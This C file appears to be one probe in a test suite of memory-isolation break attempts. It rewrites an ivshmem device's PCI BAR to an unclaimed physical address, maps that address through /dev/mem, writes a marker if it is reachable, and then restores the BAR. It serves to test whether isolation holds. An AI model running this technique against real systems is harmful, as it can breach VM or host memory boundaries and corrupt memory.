/* The BAR is moved in configuration space; the device's memory then lies where nobody claims it. */
#include "attempt.h"

#define ELSEWHERE 0xe0000000UL

static int attempt(void)
{
	int config = open(IVSHMEM "config", O_RDWR), reached;
	uint32_t low, moved;
	uint64_t start;
	char *at;

	if (config < 0 || pread(config, &low, 4, 0x18) != 4)
		give_up(IVSHMEM "config");
	start = low & ~15U;
	moved = (low & 15) | ELSEWHERE;
	claim();
	if (pwrite(config, &moved, 4, 0x18) != 4)
		give_up("write to config");
	at = map("/dev/mem", ELSEWHERE + (page - start), 1);
	printf("mmap at the new address: %s\n", at ? "works" : strerrorname_np(errno));
	reached = at && reads("load", at);
	if (reached)
		*(volatile uint64_t *)(at + AT) = MARK;
	if (pwrite(config, &low, 4, 0x18) != 4)
		give_up("write to config");
	return reached ? landed() : NOT_REACHED;
}
